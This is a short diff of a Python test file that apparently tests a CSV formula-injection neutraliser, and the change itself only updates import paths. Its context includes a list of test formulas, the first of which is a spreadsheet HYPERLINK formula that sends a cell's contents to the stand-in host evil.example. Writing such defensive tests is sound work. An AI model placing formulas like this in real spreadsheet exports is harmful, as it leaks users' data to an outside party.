@@ -9,8 +9,8 @@ import sqlite3
 
 import pytest
 
-from oc_site.app import make_datasette
-from oc_site.tableur import CsvNeutraliser, neutralise
+from bench.site import make_datasette
+from oc_site.http.csv_safety import CsvNeutraliser, neutralise
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
